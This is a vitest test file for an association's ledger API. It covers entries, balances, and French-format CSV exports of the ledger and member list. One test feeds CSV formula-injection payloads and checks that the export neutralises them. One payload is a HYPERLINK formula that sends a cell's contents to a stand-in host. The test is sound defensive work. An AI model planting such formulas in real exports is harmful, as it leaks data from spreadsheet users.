import { afterEach, describe, expect, it } from 'vitest';
import { testBox, type TestBox, type TestClient } from '../testing/index.js';

const GG = '/api/v1/spaces/givors-gavinane';
let box: TestBox;
afterEach(async () => box?.close());

/** The response's raw bytes: a Response's text() would silently drop the BOM. */
async function bytes(client: TestClient, path: string): Promise<{ status: number; type: string | null; body: Buffer }> {
  const res = await box.appliance.app.request(path, { headers: { cookie: client.cookie! } });
  return { status: res.status, type: res.headers.get('content-type'), body: Buffer.from(await res.arrayBuffer()) };
}

const entries = [
  { date: '2026-01-15', label: 'Cotisations; janvier', amountCents: 4000, direction: 'receipt', category: 'Cotisations' },
  { date: '2026-02-03', label: 'Panneaux "solaires" Gavinané', amountCents: 98050, direction: 'expense', category: 'Projets' },
  { date: '2026-02-03', label: 'Subvention', amountCents: 150000, direction: 'receipt', category: 'Subventions' },
];

describe('ledger', () => {
  it('writes, reads, corrects and deletes an entry', async () => {
    box = await testBox();
    const awa = await box.user('awa', { 'givors-gavinane': 'admin' });
    const created = await awa.post(`${GG}/ledger`, entries[0]);
    expect(created.status).toBe(201);
    expect(created.body).toEqual({ ...entries[0], id: created.body.id, receiptFileId: null });
    const id = created.body.id;
    expect((await awa.patch(`${GG}/ledger/${id}`, { amountCents: 4500, receiptFileId: 'recu-janvier' })).body).toMatchObject({ amountCents: 4500, receiptFileId: 'recu-janvier', label: 'Cotisations; janvier' });
    expect((await awa.get(`${GG}/ledger/${id}`)).body.amountCents).toBe(4500);
    expect((await awa.delete(`${GG}/ledger/${id}`)).status).toBe(200);
    expect((await awa.get(`${GG}/ledger/${id}`)).status).toBe(404);
    for (const bad of [{ amountCents: 0 }, { amountCents: 12.34 }, { direction: 'gift' }, { date: '2026-1-5' }]) {
      expect((await awa.post(`${GG}/ledger`, { ...entries[0], ...bad })).status, JSON.stringify(bad)).toBe(400);
    }
  });

  it('gives running balances and the totals of a period', async () => {
    box = await testBox();
    const awa = await box.user('awa', { 'givors-gavinane': 'admin' });
    // Written out of date order: the list is in date order, same-day entries as written.
    for (const e of [entries[1], entries[2], entries[0]]) expect((await awa.post(`${GG}/ledger`, e)).status).toBe(201);
    const all = (await awa.get(`${GG}/ledger`)).body;
    expect(all.items.map((l: { label: string; balanceCents: number }) => [l.label, l.balanceCents])).toEqual([
      ['Cotisations; janvier', 4000],
      ['Panneaux "solaires" Gavinané', -94050],
      ['Subvention', 55950],
    ]);
    expect(all.totals).toEqual({ openingCents: 0, receiptsCents: 154000, expensesCents: 98050, closingCents: 55950 });
    const feb = (await awa.get(`${GG}/ledger?from=2026-02-01&to=2026-02-28`)).body;
    expect(feb.items).toHaveLength(2);
    expect(feb.totals).toEqual({ openingCents: 4000, receiptsCents: 150000, expensesCents: 98050, closingCents: 55950 });
    const jan = (await awa.get(`${GG}/ledger?to=2026-01-31`)).body;
    expect(jan.totals).toEqual({ openingCents: 0, receiptsCents: 4000, expensesCents: 0, closingCents: 4000 });
  });

  it('exports exactly the CSV a French spreadsheet reads', async () => {
    box = await testBox();
    const awa = await box.user('awa', { 'givors-gavinane': 'admin' });
    for (const e of entries) await awa.post(`${GG}/ledger`, e);
    const res = await bytes(awa, `${GG}/ledger.csv`);
    expect(res.status).toBe(200);
    expect(res.type).toMatch(/^text\/csv; charset=utf-8/);
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const expected =
      '\uFEFFDate;Libellé;Catégorie;Recette;Dépense;Solde\r\n' +
      '15/01/2026;"Cotisations; janvier";Cotisations;40,00;;40,00\r\n' +
      '03/02/2026;"Panneaux ""solaires"" Gavinané";Projets;;980,50;-940,50\r\n' +
      '03/02/2026;Subvention;Subventions;1500,00;;559,50\r\n';
    expect(res.body.equals(Buffer.from(expected, 'utf8'))).toBe(true);
    expect(res.body.toString('utf8')).toBe(expected);

    const feb = (await bytes(awa, `${GG}/ledger.csv?from=2026-02-01`)).body.toString('utf8');
    expect(feb.split('\r\n')).toHaveLength(4);
  });

  it('defuses text a spreadsheet would run as a formula', async () => {
    box = await testBox();
    const awa = await box.user('awa', { 'givors-gavinane': 'admin' });
    const labels = ['=HYPERLINK("http://x.example/?"&A1;"Cliquez")', '+33 4 72 00 00 00', '-2+3', '@SOMME(A1:A9)'];
    for (const label of labels) await awa.post(`${GG}/ledger`, { date: '2026-03-01', label, amountCents: 100, direction: 'receipt', category: '=1+1' });
    const lines = (await bytes(awa, `${GG}/ledger.csv`)).body.toString('utf8').split('\r\n').slice(1, 5);
    expect(lines).toEqual([
      `01/03/2026;"'=HYPERLINK(""http://x.example/?""&A1;""Cliquez"")";'=1+1;1,00;;1,00`,
      `01/03/2026;'+33 4 72 00 00 00;'=1+1;1,00;;2,00`,
      `01/03/2026;'-2+3;'=1+1;1,00;;3,00`,
      `01/03/2026;'@SOMME(A1:A9);'=1+1;1,00;;4,00`,
    ]);
  });

  it('exports the member list too, defused and in French order', async () => {
    box = await testBox();
    const awa = await box.user('awa', { 'givors-gavinane': 'admin' });
    await awa.post(`${GG}/members`, { firstName: 'Moussa', lastName: 'Keïta', joinedOn: '2013-09-01', phone: '+223 76 12 34 56', notes: '=1+1' });
    await awa.post(`${GG}/members`, { firstName: 'Awa', lastName: 'Traoré', joinedOn: '2011-03-12', role: 'présidente; fondatrice', town: 'Givors' });
    const csv = (await bytes(awa, `${GG}/members.csv`)).body.toString('utf8');
    expect(csv).toBe(
      '\uFEFFNom;Prénom;Courriel;Téléphone;Ville;Adhésion;Rôle;Notes\r\n' +
        "Keïta;Moussa;;'+223 76 12 34 56;;01/09/2013;;'=1+1\r\n" +
        'Traoré;Awa;;;Givors;12/03/2011;"présidente; fondatrice";\r\n',
    );
  });
});
